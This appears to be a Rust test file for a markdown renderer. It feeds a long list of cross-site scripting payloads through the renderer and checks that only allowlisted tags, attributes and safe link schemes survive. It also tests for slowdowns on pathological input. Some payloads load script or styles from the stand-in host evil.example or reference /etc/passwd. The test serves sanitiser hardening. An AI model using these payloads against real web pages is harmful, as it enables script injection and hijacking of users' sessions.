//! Prose that wants to run something.

use super::context;
use crate::markdown::{Audience, RawHtml, html, inline_html, inline_twin, twin};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' data-i=0>",
    "<img/src=x/onerror=alert(1)//>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example';</style><p style=\"background:url(javascript:alert(1))\">a",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button><input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>a</a> <a href=\"java&#10;script:alert(1)\">b</a> <a href=\"&#106;avascript&colon;alert(1)\">c</a>",
    "<a href=\" &#1; javascript:alert(1)\">a</a><a href=vbscript:x>b</a><a href=data:text/html,x>c</a><a href=file:///etc/passwd>d</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example><link rel=stylesheet href=//evil.example>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>a</summary>",
    "<video src=https://evil.example onerror=alert(1)><audio src=x><source src=x>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext>",
    "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title><select><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--> <!--><img src=x onerror=alert(1)> <![CDATA[<script>alert(1)</script>]]> <?php alert(1) ?>",
    "<p data-i=0><p data-i=99999999999999999999><a data-i=1 href=javascript:alert(1)>x</a>",
    "<b id=causes class=x name=y style=z>a</b><a name=b>c</a>",
    "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](java\tscript:alert(1)) [d](<java script:alert(1)>)",
    "[a](javascript&colon;alert(1)) [b](&#x6A;avascript:alert(1)) [c](javascript&#58;alert(1)) [d](\\javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](feed:javascript:alert(1))",
    "![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](https://evil.example/x.png) ![d](//evil.example/x.png)",
    "![e](/\\evil.example/x.png) ![f](\\\\evil.example/x.png) ![g](http:evil.example) ![h](/\t/evil.example)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[a]\n\n[a]: javascript:alert(1)\n[b]: <data:x> 'c'",
    "[a](b \"x\\\" onclick=alert(1) y=\\\"\") ![c\" onerror=\"alert(1)](d.png 'e\" onload=\"f')",
    "[[javascript:alert(1)]] [[a\" onclick=\"alert(1)|b]] `err:\"><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```js title=\"<script>alert(1)</script>\"\n</script>\n```",
    "# <script>alert(1)</script> \" onclick=\"alert(1)",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "|<script>|\" onmouseover=\"alert(1)|\n|-|-|\n|</table><script>alert(1)</script>|<img src=x onerror=alert(1)>|",
    "> [!TIP]\n> <script>alert(1)</script>\n\n- [x] <img src=x onerror=alert(1)>",
    ":::agents\n<script>alert(1)</script>\n:::\n:::people\n<img src=x onerror=alert(1)>",
    "{{ x }} {% raw %} ${x} <%= x %> \u{2028}</script>\u{2029} \u{0}<scr\u{0}ipt>alert(1)</script>",
    "\u{202e}<img src=x onerror=alert(1)>\u{feff}<script>\u{1}alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- %3Cscript%3E &lt;script&gt; &#60;script&#62; \\<script\\>",
];

/// What may stand in a page that was written from prose.
const TAGS: &str = " p h1 h2 h3 h4 h5 h6 blockquote details summary ul ol li em strong del sub sup small mark q u ins a img code pre hr br \
                    table thead tbody tr th td div span b input ";
const ATTRIBUTES: &str = " id class href title rel src alt loading start scope tabindex role aria-label type disabled checked ";

/// Checks each tag, attribute and address of what we wrote: it quotes every value.
fn check_html(source: &str, html: &str) {
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut quoted = false;
        let end = after.find(|character| {
            quoted ^= character == '"';
            character == '>' && !quoted
        });
        let end = end.unwrap_or_else(|| panic!("a tag without an end, from {source:?}: {html}"));
        check_tag(source, &after[..end]);
        rest = &after[end + 1..];
    }
}

fn check_tag(source: &str, tag: &str) {
    let tag = tag.strip_prefix('/').unwrap_or(tag);
    let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
    assert!(TAGS.contains(&format!(" {name} ")), "<{name}> from {source:?}");
    while !attributes.trim().is_empty() {
        let end = attributes.find([' ', '=']).unwrap_or(attributes.len());
        let key = &attributes[..end];
        assert!(ATTRIBUTES.contains(&format!(" {key} ")), "{key} from {source:?}");
        attributes = &attributes[end..];
        if let Some(value) = attributes.strip_prefix("=\"") {
            let (value, after) = value.split_once('"').unwrap_or_else(|| panic!("an open quote from {source:?}"));
            match key {
                "href" => check_address(source, value),
                "src" => assert!(!value.contains(':') && !value.starts_with("//") && !value.contains('\\'), "{value} from {source:?}"),
                _ => {}
            }
            attributes = after;
        }
        attributes = attributes.trim_start();
    }
}

fn check_address(source: &str, address: &str) {
    let scheme = address.split(['/', '?', '#']).next().unwrap_or_default();
    let is_safe = !scheme.contains(':') || ["https:", "http:", "mailto:"].contains(&scheme) || address.starts_with("mailto:");
    assert!(is_safe && !address.chars().any(char::is_control), "{address} from {source:?}");
}

fn check(source: &str) {
    for raw_html in [RawHtml::Shown, RawHtml::Sanitised] {
        for audience in [Audience::People, Audience::Agents] {
            let context = context(raw_html, audience);
            check_html(source, &html(source, &context));
            check_html(source, &inline_html(source, &context));
            for markdown in [twin(source, &context), inline_twin(source, &context)] {
                check_markdown(source, &markdown);
            }
        }
    }
}

/// A twin that someone makes a page of without care has no tags and no unsafe links either.
fn check_markdown(source: &str, markdown: &str) {
    for event in pulldown_cmark::Parser::new(markdown) {
        match event {
            pulldown_cmark::Event::Html(html) | pulldown_cmark::Event::InlineHtml(html) => {
                let allowed = ["<!-- -->", "<sub>", "</sub>", "<sup>", "</sup>"].contains(&html.trim());
                assert!(allowed, "{html} in the twin of {source:?}: {markdown}");
            }
            pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) => check_address(source, &dest_url),
            _ => {}
        }
    }
}

#[test]
fn nothing_runs() {
    for attack in ATTACKS {
        check(attack);
        check(&format!("a {attack} b"));
        check(&format!("- {attack}\n\n> {attack}\n"));
        check(&format!("<div>{attack}\n\n**{attack}**\n\n</div>"));
        check(&format!("<b title=\"{attack}\">{attack}"));
    }
    check(&ATTACKS.join("\n\n"));
    check(&ATTACKS.concat());
}

#[test]
fn nothing_takes_for_ever() {
    let pieces = [
        "> ",
        "- ",
        "1. ",
        "[",
        "![",
        "[[",
        "*a _b ",
        "**",
        "`",
        "``a",
        "<div>",
        "<b><p>",
        "<b a=1>",
        "</b>",
        "<table><td>",
        "|a",
        "[^1]",
        "[^1]: ",
        "[a]: b\n",
        "a[^x]\n\n[^x]: a[^x]\n\n",
        "<!--",
        "<a href=",
        "&amp;",
        "\\",
        "# a\n",
        ":::agents\n",
        ":::\n",
        "a\n===\n",
        "<ul><li>",
        "<i><b><u>",
        "http://a",
        "a@b.c ",
        "[a](",
        "](",
        "\u{0}",
        "é",
        "|-|-|\n",
        "~~",
        "<details>",
        "  - a\n",
        "\t",
        "* * ",
        "[x|y]] ",
        "<svg><p>",
        "<q><p>",
    ];
    for piece in pieces {
        check(&piece.repeat(20_000 / piece.len()));
        let lines: Vec<String> = (0..500).map(|depth| format!("{}{piece}a", "  ".repeat(depth % 60))).collect();
        check(&lines.join("\n"));
    }
    check(&(0..300).map(|depth| format!("{}- a", "  ".repeat(depth))).collect::<Vec<_>>().join("\n"));
    check(&format!("|{}\n|{}\n{}", "a|".repeat(500), "-|".repeat(500), "|b\n".repeat(50)));
}
